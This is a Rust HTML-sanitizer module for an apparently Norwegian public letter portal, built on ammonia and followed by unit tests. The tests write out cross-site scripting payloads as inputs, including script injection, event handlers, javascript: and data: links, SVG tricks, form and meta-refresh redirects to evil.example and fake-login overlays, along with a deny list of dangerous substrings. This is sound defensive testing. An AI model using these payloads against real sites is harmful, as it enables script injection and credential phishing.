//! Letter bodies to safe HTML, once, at delivery.
//!
//! Agencies send plain text or a small HTML subset. What the portal shows is always the
//! output of this module, stored beside the original: plain text is escaped and its line
//! breaks kept; HTML goes through `ammonia` with an allow-list of text-structure tags and no
//! styling at all. Scripts, event handlers, `javascript:` and `data:` links, SVG and MathML,
//! forms, frames, `style` attributes and `<style>` elements are dropped; links keep only
//! `http`, `https` and `mailto` and get `rel="noopener noreferrer nofollow"`. The page still
//! sends a strict CSP: this is the first wall, not the only one.

use std::collections::HashSet;
use std::sync::LazyLock;

use ammonia::{Builder, UrlRelative};

/// Tags a letter may use: text structure, lists, simple tables, links.
const ALLOWED_TAGS: [&str; 32] = [
    "a",
    "abbr",
    "b",
    "blockquote",
    "br",
    "caption",
    "code",
    "dd",
    "div",
    "dl",
    "dt",
    "em",
    "h1",
    "h2",
    "h3",
    "h4",
    "h5",
    "h6",
    "hr",
    "i",
    "li",
    "ol",
    "p",
    "pre",
    "s",
    "small",
    "span",
    "strong",
    "sub",
    "sup",
    "u",
    "ul",
];
/// Table tags (kept apart: the list above is long enough).
const TABLE_TAGS: [&str; 7] = ["table", "tbody", "td", "tfoot", "th", "thead", "tr"];
/// Elements removed with everything inside them (not just unwrapped).
const REMOVED_WITH_CONTENT: [&str; 8] = [
    "script", "style", "svg", "math", "template", "noscript", "iframe", "object",
];

/// The sanitizer, configured once: `Builder::default()` and the sets below are a few dozen
/// allocations, which every delivery paid again when it was built per call.
static SANITIZER: LazyLock<Builder<'static>> = LazyLock::new(|| {
    let mut tags: HashSet<&str> = ALLOWED_TAGS.into_iter().collect();
    tags.extend(TABLE_TAGS);
    let mut builder = Builder::default();
    builder
        .tags(tags)
        .clean_content_tags(REMOVED_WITH_CONTENT.into_iter().collect())
        .generic_attributes(["lang", "title"].into_iter().collect())
        .tag_attributes(
            [
                ("a", ["href"].into_iter().collect()),
                ("td", ["colspan", "rowspan"].into_iter().collect()),
                ("th", ["colspan", "rowspan", "scope"].into_iter().collect()),
                ("ol", ["start"].into_iter().collect()),
            ]
            .into_iter()
            .collect(),
        )
        .url_schemes(["http", "https", "mailto"].into_iter().collect())
        .url_relative(UrlRelative::Deny)
        .link_rel(Some("noopener noreferrer nofollow"));
    builder
});

/// The text extractor for the search index, configured once.
static TEXT_ONLY: LazyLock<Builder<'static>> = LazyLock::new(|| {
    let mut builder = Builder::empty();
    builder.clean_content_tags(REMOVED_WITH_CONTENT.into_iter().collect());
    builder
});

/// `body` (HTML from an agency) as HTML that is safe to put in the letter page.
pub fn sanitize_html(body: &str) -> String {
    SANITIZER.clean(body).to_string()
}

/// Plain text as HTML: escaped, paragraphs at blank lines, line breaks kept.
pub fn text_to_html(body: &str) -> String {
    let normalised = body.replace("\r\n", "\n");
    let mut html = String::with_capacity(normalised.len() + 16);
    for paragraph in normalised.split("\n\n") {
        let paragraph = paragraph.trim_matches('\n');
        if paragraph.is_empty() {
            continue;
        }
        html.push_str("<p>");
        for (index, line) in paragraph.split('\n').enumerate() {
            if index > 0 {
                html.push_str("<br>");
            }
            escape_into(&mut html, line);
        }
        html.push_str("</p>");
    }
    html
}

/// Escapes text for HTML element content and attribute values.
fn escape_into(html: &mut String, text: &str) {
    for c in text.chars() {
        match c {
            '&' => html.push_str("&amp;"),
            '<' => html.push_str("&lt;"),
            '>' => html.push_str("&gt;"),
            '"' => html.push_str("&quot;"),
            '\'' => html.push_str("&#39;"),
            c => html.push(c),
        }
    }
}

/// The words of an HTML body, for the search index: tags dropped (with the content of the
/// elements [`sanitize_html`] removes), the common entities turned back into characters.
pub fn html_to_search_text(body: &str) -> String {
    let text = TEXT_ONLY.clean(body).to_string();
    text.replace("&lt;", "<")
        .replace("&gt;", ">")
        .replace("&quot;", "\"")
        .replace("&#39;", "'")
        .replace("&nbsp;", " ")
        .replace("&amp;", "&")
}

#[cfg(test)]
mod tests {
    use super::*;

    fn assert_inert(html: &str) {
        let lower = html.to_lowercase();
        for bad in [
            "<script",
            "javascript:",
            "onerror",
            "onload",
            "onclick",
            "onmouseover",
            "<svg",
            "<style",
            "style=",
            "<iframe",
            "<object",
            "<embed",
            "<form",
            "<img",
            "expression(",
            "data:",
            "<math",
            "<base",
            "<meta",
            "<link",
            "srcdoc",
            "formaction",
        ] {
            assert!(!lower.contains(bad), "{bad} survived in {html}");
        }
    }

    #[test]
    fn scripts_and_their_content_are_removed() {
        let out = sanitize_html("<p>Hei</p><script>alert(1)</script><SCRIPT SRC=//x.js></SCRIPT>");
        assert_eq!(out, "<p>Hei</p>");
        assert_inert(&sanitize_html("<scr<script>ipt>alert(1)</script>"));
    }

    #[test]
    fn event_handlers_are_removed() {
        let out = sanitize_html(r#"<p onclick="alert(1)" onmouseover=alert(2)>Trykk</p>"#);
        assert_eq!(out, "<p>Trykk</p>");
        assert_inert(&sanitize_html(r#"<img src=x onerror=alert(1)>"#));
        assert_inert(&sanitize_html(r#"<body onload=alert(1)>x</body>"#));
    }

    #[test]
    fn javascript_and_data_links_lose_their_target() {
        for link in [
            r#"<a href="javascript:alert(1)">x</a>"#,
            r#"<a href="JaVaScRiPt:alert(1)">x</a>"#,
            r#"<a href="  javascript:alert(1)">x</a>"#,
            r#"<a href="java&#x09;script:alert(1)">x</a>"#,
            r#"<a href="data:text/html;base64,PHNjcmlwdD4=">x</a>"#,
            r#"<a href="vbscript:msgbox(1)">x</a>"#,
            r#"<a href="/relative">x</a>"#,
        ] {
            let out = sanitize_html(link);
            assert_inert(&out);
            assert!(!out.contains("href"), "{link} gave {out}");
        }
        let out = sanitize_html(r#"<a href="https://www.nav.no/" target="_blank">nav.no</a>"#);
        assert_eq!(
            out,
            r#"<a href="https://www.nav.no/" rel="noopener noreferrer nofollow">nav.no</a>"#
        );
    }

    #[test]
    fn svg_and_math_are_removed_with_their_content() {
        let out = sanitize_html(
            r#"<p>a</p><svg><script>alert(1)</script><a xlink:href="javascript:x">b</a></svg><svg/onload=alert(1)><math><mi xlink:href="javascript:alert(1)">c</mi></math>"#,
        );
        assert_inert(&out);
        assert_eq!(out, "<p>a</p>");
    }

    #[test]
    fn css_tricks_are_removed() {
        for css in [
            r#"<p style="background:url(javascript:alert(1))">x</p>"#,
            r#"<p style="width: expression(alert(1))">x</p>"#,
            r#"<style>@import 'https://evil.example/x.css'; body{display:none}</style><p>x</p>"#,
            r#"<div style="position:fixed;top:0;left:0;width:100%;height:100%">fake login</div>"#,
            r#"<link rel=stylesheet href="https://evil.example/x.css"><p>x</p>"#,
        ] {
            let out = sanitize_html(css);
            assert_inert(&out);
        }
        assert_eq!(
            sanitize_html(r#"<div style="position:fixed">fake login</div>"#),
            "<div>fake login</div>"
        );
    }

    #[test]
    fn forms_frames_and_meta_are_removed() {
        let out = sanitize_html(
            r#"<form action="https://evil.example"><input name=pw><button formaction="javascript:x">Send</button></form><iframe src="https://evil.example" srcdoc="<script>x</script>"></iframe><meta http-equiv="refresh" content="0;url=https://evil.example"><base href="https://evil.example/">"#,
        );
        assert_inert(&out);
    }

    #[test]
    fn text_structure_survives() {
        let html = "<h2>Vedtak</h2><p>Du har fått <strong>innvilget</strong> søknaden.</p><ul><li>a</li></ul><table><tbody><tr><td colspan=\"2\">1</td></tr></tbody></table>";
        assert_eq!(sanitize_html(html), html);
    }

    #[test]
    fn plain_text_is_escaped_and_keeps_its_lines() {
        assert_eq!(
            text_to_html("Hei <Kari>,\r\nlinje to\n\nNytt avsnitt & slutt"),
            "<p>Hei &lt;Kari&gt;,<br>linje to</p><p>Nytt avsnitt &amp; slutt</p>"
        );
        assert_inert(&text_to_html("<script>alert(1)</script>"));
    }

    #[test]
    fn search_text_has_the_words_only() {
        assert_eq!(
            html_to_search_text("<p>Skatt &amp; avgift</p><script>secretword()</script>"),
            "Skatt & avgift"
        );
    }
}
